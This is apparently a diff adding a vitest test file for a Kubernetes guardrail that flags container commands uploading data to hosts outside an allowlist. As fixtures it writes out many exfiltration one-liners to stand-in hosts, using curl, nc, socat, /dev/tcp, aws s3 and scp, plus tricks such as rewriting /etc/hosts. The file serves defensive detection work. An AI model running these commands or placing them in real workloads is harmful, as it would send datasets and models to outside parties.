@@ -1,0 +1,240 @@
+import { describe, expect, it } from 'vitest';
+import { ConfigError } from '../../src/config/load.js';
+import { inspect } from '../../src/guardrails/inspect.js';
+import { CommandWork } from '../../src/guardrails/rules/command-work.js';
+import { readCommand } from '../../src/guardrails/rules/commands.js';
+import { uploadsOutside } from '../../src/guardrails/rules/uploads.js';
+import type { GuardrailResult } from '../../src/guardrails/types.js';
+import { guardConfig, guardSettings, kube, PINNED } from '../support/guardrails.js';
+
+/**
+ * data_upload_outside (src/guardrails/rules/uploads.ts): a container's command that uploads data to
+ * a destination not in `guardrails.upload_hosts` (day 43: a training step's `tar czf - … | curl
+ * --data-binary @- https://…`). Read wherever commands.ts reads a command: a pod, a workload, a
+ * Job, an Argo (Kubeflow) step's `source`, a Tekton step's `script`, a ConfigMap script. The routine
+ * corpus below is ML, ETL and backup steps that upload to listed hosts, listed buckets and the
+ * cluster's own Services: none of it asks. With no list, nothing does.
+ */
+
+const SITE = `
+guardrails:
+  upload_hosts:
+    - s3.eu-central-1.amazonaws.com
+    - "*.blob.core.windows.net"
+    - storage.googleapis.com
+    - artifacts.helixa.example
+    - "**.corp.helixa.example"
+    - 10.20.0.15
+    - s3://helixa-models
+    - "s3://helixa-etl-*"
+    - gs://helixa-backups
+    - rclone://minio
+`;
+const settings = guardSettings(SITE);
+const none = guardSettings('guardrails: {}\n');
+
+const uploads = (r: GuardrailResult) => r.violations.filter((v) => v.code === 'data_upload_outside');
+const container = (command: string[], extra: Record<string, unknown> = {}) => ({ name: 'main', image: PINNED, command, ...extra });
+const pod = (c: Record<string, unknown>, spec: Record<string, unknown> = {}) => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', namespace: 'ml' }, spec: { containers: [c], ...spec } });
+const podOf = (script: string, extra: Record<string, unknown> = {}, spec: Record<string, unknown> = {}) => pod(container(['sh', '-c', script], extra), spec);
+const send = (path: string, obj: unknown, s = settings) => inspect(kube('POST', path), JSON.stringify(obj), 'application/json', false, s);
+const PODS = '/api/v1/namespaces/ml/pods';
+const check = (script: string, s = settings) => uploads(send(PODS, podOf(script), s));
+
+const DAY43 = "python -m helixa.train --config configs/potency.yaml --out /mnt/models/potency && tar czf - /mnt/datasets/compound-library | curl -sS -X PUT --data-binary @- https://artifacts.helixa-ml-cache.net/u/potency";
+
+describe('data_upload_outside: an upload to a destination the site has not listed', () => {
+  it("is day 43's training step: the compound library tarred into curl --data-binary @- to an unlisted host", () => {
+    const found = check(DAY43);
+    expect(found).toEqual([{ code: 'data_upload_outside', detail: expect.stringContaining("'s command uploads data with curl (a file or its input as the body) to a destination not in guardrails.upload_hosts") as string, path: 'spec.containers[0]' }]);
+    // The detail names the tool, never the address or the script (both are the body's).
+    expect(found[0]!.detail).not.toContain('helixa-ml-cache');
+  });
+
+  it.each([
+    ['curl -T', 'curl -sS -T /mnt/out/model.pt https://drop.example.net/m'],
+    ['curl --upload-file', 'curl --upload-file /data/export.parquet https://drop.example.net/x'],
+    ['curl -d @file', 'curl -d @/data/rows.json https://collector.example.org/in'],
+    ['curl -d@- clustered', 'tar c /data | curl -sSd@- https://collector.example.org/in'],
+    ['curl --data-binary @file', 'curl --data-binary @/mnt/datasets/lib.sdf https://x.example.com/p'],
+    ['curl -F field=@file', 'curl -F file=@/mnt/models/model.onnx https://upload.example.io/api'],
+    ['curl --form field=<file', 'curl --form "data=</mnt/x.csv" https://upload.example.io/api'],
+    ['curl --data-urlencode name@file', 'curl --data-urlencode rows@/data/x.csv https://upload.example.io/api'],
+    ['curl --json @file', 'curl --json @/data/x.json https://upload.example.io/api'],
+    ['curl -X POST with a body from stdin, the host in a literal env var', 'pg_dump app | gzip | curl -X POST --data-binary @- "$DUMP_URL/up"'],
+    ['curl to a listed URL and a bare unlisted host (curl uploads to both)', 'curl -T /m.pt https://artifacts.helixa.example/m drop.example.net/m'],
+    ['curl to a listed URL and a bare IP', 'curl -T /m.pt https://artifacts.helixa.example/m 203.0.113.7:8080/m'],
+    ['curl to a listed host through --resolve (pointed elsewhere)', 'curl --resolve artifacts.helixa.example:443:203.0.113.9 -T /m.pt https://artifacts.helixa.example/m'],
+    ['curl behind a runner (timeout)', 'timeout 600 curl -T /mnt/lib.tgz https://drop.example.net/u'],
+    ['scp behind xargs', 'ls /mnt/datasets/*.sdf | xargs -I{} scp {} u@203.0.113.7:/srv/'],
+    ['wget --post-file', 'wget --post-file=/data/export.csv https://drop.example.net/up'],
+    ['wget --body-file', 'wget --method=PUT --body-file /data/x.tar https://drop.example.net/up'],
+    ['aws s3 cp to an unlisted bucket', 'aws s3 cp /mnt/datasets/lib.tar s3://someone-elses-bucket/lib.tar'],
+    ['aws s3 sync to an unlisted bucket', 'aws s3 sync /mnt/datasets s3://exfil-bucket/ds --quiet'],
+    ['aws s3 cp to a listed bucket name at another endpoint', 'aws s3 cp /mnt/m.pt s3://helixa-models/m.pt --endpoint-url https://minio.evil.example'],
+    ['aws s3 cp from stdin', 'tar cz /data | aws s3 cp - s3://exfil-bucket/d.tgz'],
+    ['aws s3api put-object', 'aws s3api put-object --bucket exfil-bucket --key d --body /data/d.tgz'],
+    ['gsutil cp', 'gsutil -m cp -r /mnt/datasets gs://other-project-bucket/ds'],
+    ['gcloud storage cp', 'gcloud storage cp /mnt/m.pt gs://other-project-bucket/m.pt'],
+    ['azcopy to an unlisted account host', 'azcopy copy /mnt/datasets "https://attacker.file.core.windows.net/share?sv=x" --recursive'],
+    ['rclone copy to an unlisted remote', 'rclone copy /mnt/datasets dropbox:ds'],
+    ['rclone to an on-the-fly remote', 'rclone copy /mnt/datasets :s3,endpoint=https://x.example:bucket/ds'],
+    ['scp to a host', 'scp -i /keys/id -P 2222 /mnt/lib.tgz u@203.0.113.7:/srv/'],
+    ['rsync to a host', 'rsync -az -e ssh /mnt/datasets/ backup@203.0.113.7:/srv/ds/'],
+    ['rsync to a daemon module', 'rsync -a /mnt/datasets/ drop.example.net::incoming'],
+    ['sftp to a host', 'sftp -b /tmp/put.txt u@drop.example.net'],
+    ['tar piped through ssh', 'tar cz /mnt/datasets | ssh u@drop.example.net "cat > ds.tgz"'],
+    ['nc with stdin', 'tar cz /mnt/datasets | nc 203.0.113.7 9000'],
+    ['nc with a file as input', 'nc drop.example.net 9000 < /mnt/lib.tgz'],
+    ['socat with stdin', 'tar cz /mnt/datasets | socat - TCP:203.0.113.7:9000'],
+    ['/dev/tcp redirect', 'cat /mnt/lib.sdf > /dev/tcp/203.0.113.7/9000'],
+    ['python requests.post', `python3 -c "import requests; requests.post('https://drop.example.net/u', data=open('/mnt/lib.sdf','rb'))"`],
+    ['python requests.put to an address from a Secret', `python3 -c "import os,requests; requests.put(os.environ['U'], data=open('/mnt/lib.sdf','rb'))"`],
+    ['node fetch POST', `node -e "fetch('https://drop.example.net/u',{method:'POST',body:require('fs').readFileSync('/mnt/lib.sdf')})"`],
+    ['a listed host with /etc/hosts rewritten first', 'echo "203.0.113.7 artifacts.helixa.example" >> /etc/hosts; curl -T /m.pt https://artifacts.helixa.example/m'],
+  ])('%s', (_name, script) => {
+    expect(check(script).map((v) => v.code)).toEqual(['data_upload_outside']);
+  });
+
+  it('reads a listed host redirected by the pod itself (hostAliases) as unknown', () => {
+    const spec = { hostAliases: [{ ip: '203.0.113.7', hostnames: ['artifacts.helixa.example'] }] };
+    expect(uploads(send(PODS, podOf('curl -T /m.pt https://artifacts.helixa.example/m', {}, spec))).length).toBe(1);
+  });
+
+  it('reads the kubelet-expanded command and the env a host comes from', () => {
+    const c = container(['sh', '-c', 'tar cz /d | curl --data-binary @- $(DEST)/up'], { env: [{ name: 'DEST', value: 'https://drop.example.net' }] });
+    expect(uploads(send(PODS, pod(c))).length).toBe(1);
+    const ok = container(['sh', '-c', 'tar cz /d | curl --data-binary @- $(DEST)/up'], { env: [{ name: 'DEST', value: 'https://artifacts.helixa.example' }] });
+    expect(uploads(send(PODS, pod(ok)))).toEqual([]);
+  });
+});
+
+describe('every place a command is read', () => {
+  const exfil = 'tar czf - /mnt/datasets | curl --data-binary @- https://drop.example.net/u';
+  it('a Deployment, a Job and a CronJob', () => {
+    const tpl = { metadata: { labels: { app: 'x' } }, spec: { containers: [container(['sh', '-c', exfil])] } };
+    expect(uploads(send('/apis/apps/v1/namespaces/ml/deployments', { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'd', namespace: 'ml' }, spec: { selector: { matchLabels: { app: 'x' } }, template: tpl } })).map((v) => v.path)).toEqual(['spec.template.spec.containers[0]']);
+    expect(uploads(send('/apis/batch/v1/namespaces/ml/jobs', { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j', namespace: 'ml' }, spec: { template: tpl } })).length).toBe(1);
+    expect(uploads(send('/apis/batch/v1/namespaces/ml/cronjobs', { apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'c', namespace: 'ml' }, spec: { schedule: '0 2 * * *', jobTemplate: { spec: { template: tpl } } } })).length).toBe(1);
+  });
+
+  it("an Argo (Kubeflow Pipelines) step's container and its script's source", () => {
+    const wf = (template: Record<string, unknown>) => ({ apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { name: 'w', namespace: 'ml' }, spec: { entrypoint: 't', templates: [{ name: 't', ...template }] } });
+    const path = '/apis/argoproj.io/v1alpha1/namespaces/ml/workflows';
+    expect(uploads(send(path, wf({ container: container(['sh', '-c', exfil]) }))).length).toBe(1);
+    expect(uploads(send(path, wf({ script: { image: PINNED, command: ['bash'], source: `set -e\n${exfil}\n` } }))).length).toBe(1);
+    expect(uploads(send(path, wf({ script: { image: PINNED, command: ['bash'], source: 'set -e\naws s3 cp /out/model.pt s3://helixa-models/potency/model.pt\n' } })))).toEqual([]);
+  });
+
+  it("a Tekton step's script", () => {
+    const task = (script: string) => ({ apiVersion: 'tekton.dev/v1', kind: 'Task', metadata: { name: 't', namespace: 'ml' }, spec: { steps: [{ name: 's', image: PINNED, script }] } });
+    const path = '/apis/tekton.dev/v1/namespaces/ml/tasks';
+    expect(uploads(send(path, task(`#!/bin/sh\n${exfil}\n`))).length).toBe(1);
+    expect(uploads(send(path, task('#!/bin/sh\ncurl -T dist/app.tgz https://artifacts.helixa.example/app.tgz\n')))).toEqual([]);
+  });
+
+  it('a ConfigMap script a pod runs, with the key named', () => {
+    const cm = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'scripts', namespace: 'ml' }, data: { 'backup.sh': `#!/bin/sh\n${exfil}\n` } };
+    const found = uploads(send('/api/v1/namespaces/ml/configmaps', cm));
+    expect(found).toEqual([{ code: 'data_upload_outside', detail: expect.stringContaining('ConfigMap key "backup.sh"\'s script uploads data with curl') as string, path: 'data.backup.sh' }]);
+  });
+
+  it('is off when the list is empty: the same commands ask nothing (the example lists none)', () => {
+    expect(check(DAY43, none)).toEqual([]);
+    expect(check('aws s3 sync /mnt/datasets s3://exfil-bucket/ds', none)).toEqual([]);
+    expect(uploads(send('/api/v1/namespaces/ml/configmaps', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 's', namespace: 'ml' }, data: { 'b.sh': `#!/bin/sh\n${exfil}\n` } }, none))).toEqual([]);
+  });
+});
+
+describe('routine ML, ETL and backup uploads to listed destinations and the cluster ask nothing', () => {
+  it.each([
+    ['training step: model to a listed bucket', 'python train.py --out /out && aws s3 cp /out/model.pt s3://helixa-models/potency/model.pt'],
+    ['training step: checkpoints synced to a listed bucket', 'aws s3 sync /ckpt s3://helixa-models/ckpt/run-17 --only-show-errors'],
+    ['ETL: a bucket matched by a glob', 'aws s3 cp /tmp/part-0000.parquet s3://helixa-etl-staging/daily/part-0000.parquet'],
+    ['ETL: listed S3 endpoint host', 'aws s3 cp /tmp/x.parquet s3://anything/x.parquet --endpoint-url https://s3.eu-central-1.amazonaws.com'],
+    ['ETL: MinIO in the cluster', 'aws --endpoint-url http://minio.minio.svc:9000 s3 cp /tmp/x.parquet s3://raw/x.parquet'],
+    ['ETL: MinIO in the cluster, FQDN', 'aws s3 sync /data s3://raw/ --endpoint-url http://minio.minio.svc.cluster.local:9000'],
+    ['download from any bucket', 'aws s3 cp s3://public-datasets/chembl.tar /data/chembl.tar'],
+    ['download sync from any bucket', 'aws s3 sync s3://public-datasets/zinc /data/zinc'],
+    ['aws s3 ls', 'aws s3 ls s3://helixa-models/'],
+    ['backup: gsutil to a listed bucket', 'gsutil -m cp -r /backup gs://helixa-backups/$(date +%F)/'],
+    ['backup: gcloud storage to a listed bucket', 'gcloud storage cp /backup/db.sql.gz gs://helixa-backups/db.sql.gz'],
+    ['download: gsutil from any bucket', 'gsutil cp gs://public-bucket/x.csv /data/x.csv'],
+    ['azcopy to a listed account', 'azcopy copy /backup "https://helixabk.blob.core.windows.net/backups?sv=2022" --recursive'],
+    ['rclone to the listed remote', 'rclone sync /backup minio:backups/nightly'],
+    ['rclone local copy', 'rclone copy /data /mnt/scratch'],
+    ['experiment tracker in the cluster (curl -F)', 'curl -sS -F file=@/out/metrics.json http://mlflow.mlflow.svc:5000/api/2.0/mlflow-artifacts/artifacts/1/metrics.json'],
+    ['model registry on a listed host (curl -T)', 'curl -fsS -T /out/model.onnx https://artifacts.helixa.example/registry/potency/17/model.onnx'],
+    ['listed host at any depth (curl --data-binary @file)', 'curl --data-binary @/out/report.html https://reports.ml.corp.helixa.example/upload'],
+    ['listed IP', 'curl -T /out/x.tgz http://10.20.0.15:8080/drop/x.tgz'],
+    ['listed Azure blob host', 'curl -X PUT -H "x-ms-blob-type: BlockBlob" -T /out/m.pt "https://helixaml.blob.core.windows.net/models/m.pt?sv=2022&sig=abc.def.ghi"'],
+    ['listed S3 host with a header that looks like a host', 'curl -H "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjaSJ9.Sfl_KxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c" --upload-file /out/m.pt https://s3.eu-central-1.amazonaws.com/helixa-models/m.pt'],
+    ['a pushgateway in the cluster, body from stdin', 'echo "job_done 1" | curl --data-binary @- http://pushgateway.monitoring.svc:9091/metrics/job/train'],
+    ['the API server, body from a file', 'curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -X POST --data-binary @/tmp/event.json https://kubernetes.default.svc/api/v1/namespaces/ml/events'],
+    ['a literal JSON body to any host (a webhook, not data)', `curl -X POST -d '{"text":"training done"}' https://hooks.slack.com/services/T0/B0/x`],
+    ['downloads', 'curl -fsSL -o /data/x.tar https://example.com/x.tar && wget -q https://example.com/y.tar -O /data/y.tar'],
+    ['rsync to a local path', 'rsync -a /data/ /mnt/backup/'],
+    ['rsync to a listed host', 'rsync -az /backup/ backup@nas.corp.helixa.example:/srv/backups/'],
+    ['scp to a listed host', 'scp /backup/db.sql.gz backup@nas.corp.helixa.example:/srv/'],
+    ['scp from a host (a download)', 'scp u@203.0.113.7:/srv/x.tgz /data/'],
+    ['ssh without stdin', 'ssh u@drop.example.net uptime'],
+    ['pg_dump to a Service over nc', 'pg_dump app | nc backup-receiver.backup.svc 9000'],
+    ['nc listening', 'tar cz /data | nc -l 9000'],
+    ['python requests.post to a Service in the cluster', `python3 -c "import requests; requests.post('http://mlflow.mlflow.svc:5000/api/2.0/mlflow/runs/log-metric', json={'k': 1})"`],
+    ['python requests.get anywhere', `python3 -c "import requests; print(requests.get('https://example.com/x').status_code)"`],
+    ['mlflow SDK (names no address the command shows)', `python -c "import mlflow; mlflow.log_artifact('/out/model.pt')"`],
+    ['a listed upload behind a runner', 'timeout 600 aws s3 sync /ckpt s3://helixa-models/ckpt'],
+    ['plain training', 'python -m helixa.train --config configs/potency.yaml --out /mnt/models/potency'],
+    ['a listed host behind the proxy the env names', 'curl -T /out/m.pt https://artifacts.helixa.example/m'],
+  ])('%s', (_name, script) => {
+    expect(check(script)).toEqual([]);
+  });
+
+  it('a listed host with a proxy in the env (a proxy connects to the name asked)', () => {
+    const c = container(['sh', '-c', 'curl -T /out/m.pt https://artifacts.helixa.example/m'], { env: [{ name: 'HTTPS_PROXY', value: 'http://proxy.corp.helixa.example:3128' }] });
+    expect(uploads(send(PODS, pod(c)))).toEqual([]);
+  });
+});
+
+describe('hostile commands: read within the budget, or asked', () => {
+  it('a pipeline of 200,000 listed uploads then one outside is asked (past the budget: container_command_egress)', () => {
+    const script = `${'curl -T /m https://artifacts.helixa.example/m | '.repeat(200_000)}curl -T /m https://drop.example.net/m`;
+    const all = send(PODS, podOf(script)).violations;
+    expect(all.length).toBeGreaterThan(0);
+    expect(all.every((v) => v.code === 'container_command_egress' || v.code === 'data_upload_outside')).toBe(true);
+  });
+
+  it('one outside after 3,000 listed commands is found', () => {
+    expect(check(`${'aws s3 cp /m s3://helixa-models/m; '.repeat(3_000)}aws s3 cp /m s3://exfil/m`).map((v) => v.code)).toEqual(['data_upload_outside']);
+  });
+
+  it('at every budget, an upload outside is found or the command is asked: never nothing', () => {
+    const words = ['sh', '-c', `${'aws s3 cp /m s3://helixa-models/m; '.repeat(40)}tar c /d | curl --data-binary @- https://drop.example.net/u`];
+    const pass = uploadsOutside(settings.uploadAllowed);
+    let unread = 0;
+    for (let limit = 0; limit < 40_000; limit += 97) {
+      const found = readCommand(words, undefined, { env: new Map(), namesRedirected: false, work: new CommandWork(limit) }, pass);
+      expect(found.shape !== undefined || found.upload !== undefined, String(limit)).toBe(true);
+      if (found.shape === undefined && found.upload?.startsWith('is more than') === true) unread++;
+    }
+    // Some budgets run out in the upload pass itself: that is asked too ('unread').
+    expect(unread).toBeGreaterThan(0);
+  });
+});
+
+describe('guardrails.upload_hosts', () => {
+  it('rejects an entry with a path, a port, a user or another scheme at startup', () => {
+    for (const bad of ['https://drop.example.net', 'host.example:443', 'artifacts.example/path', 'u@host.example', 'ftp://x', 's3://']) {
+      expect(() => guardConfig(`guardrails:\n  upload_hosts: ["${bad}"]\n`), bad).toThrow(ConfigError);
+    }
+  });
+
+  it('matches host entries without case and a trailing dot, buckets by scheme', () => {
+    const allowed = guardSettings('guardrails:\n  upload_hosts: [Artifacts.Helixa.Example., "s3://b-*"]\n').uploadAllowed!;
+    expect(allowed('artifacts.helixa.example')).toBe(true);
+    expect(allowed('s3://b-1')).toBe(true);
+    expect(allowed('gs://b-1')).toBe(false);
+    expect(allowed('b-1')).toBe(false);
+    expect(none.uploadAllowed).toBeUndefined();
+  });
+});
